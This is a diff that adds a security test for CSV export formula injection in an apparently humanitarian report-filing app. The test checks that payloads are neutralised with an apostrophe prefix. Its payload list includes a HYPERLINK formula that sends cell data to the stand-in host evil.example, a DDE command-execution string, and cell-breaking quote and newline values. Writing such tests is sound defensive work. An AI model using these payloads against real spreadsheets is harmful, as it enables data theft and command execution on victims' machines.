@@ -124,3 +124,53 @@ def test_the_export_is_read_in_batches(client: TestClient, runtime: Runtime,
     body = b"".join(exports.reports_csv(runtime.db, who=people["mopti"].principal,
                                         vocab=vocab, chosen=Filters()))
     assert len(parse(body)) == 6
+
+
+# What a resident could type to take over a reviewer's spreadsheet, and what a reviewer
+# could paste into a redaction. (payload, typed on a phone: else pasted by the reviewer)
+INJECTIONS = [
+    ("=1+1", True),
+    ('=HYPERLINK("http://evil.example/?"&A1,"Voir")', True),
+    ("=cmd|' /C calc'!A0", True),  # DDE
+    ("+1+1", True),
+    ("-1+1", True),
+    ("@SUM(1+1)", True),
+    ("\t=1+1", False),
+    ("\r=1+1", False),
+    ("a,=1+1", True),  # a comma: one cell still
+    ('a","=1+1', True),  # a quote to close the cell early
+    ("a\r\n=1+1", False),  # a line break to start a row
+    ("a\n@SUM(1+1)", False),
+    (" =1+1", True),  # kept without its margin, so neutralised like "=1+1"
+]
+FORMULA = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_injections_through_the_export_open_as_text(
+        client: TestClient, runtime: Runtime, people: dict[str, Person]) -> None:
+    """Each payload typed into a report on the phone (or pasted by a reviewer) and copied
+    verbatim into its redaction, the worst a reviewer can do: the export has one row per
+    report, every row as wide as the header, and no cell a spreadsheet would run."""
+    mariam = people["mopti"]
+    filed = []
+    for payload, typed in INJECTIONS:
+        report = file_report(client, runtime, text=payload if typed else "Au barrage")
+        opened = client.get(f"{API}/reports/{report.id}", headers=mariam.auth).json()
+        assert opened["text"] == (payload.strip() if typed else "Au barrage")
+        redaction = opened["text"] if typed else payload
+        response = client.put(f"{API}/reports/{report.id}/redaction", headers=mariam.auth,
+                              json={"text": redaction})
+        assert response.status_code == 200, response.text
+        filed.append(report.id)
+
+    response = client.get(URL, headers=mariam.auth)
+    assert response.status_code == 200
+    header, *rows = parse(response.content)
+    assert [int(r[0]) for r in rows] == filed
+    assert {len(r) for r in rows} == {len(header)}
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(FORMULA), (row[0], cell)
+    stored = [p.strip() for p, _ in INJECTIONS]  # text is kept without its margins
+    shown = [r[header.index("redacted_text")] for r in rows]
+    assert shown == [("'" + s if s.startswith(FORMULA) else s) for s in stored]
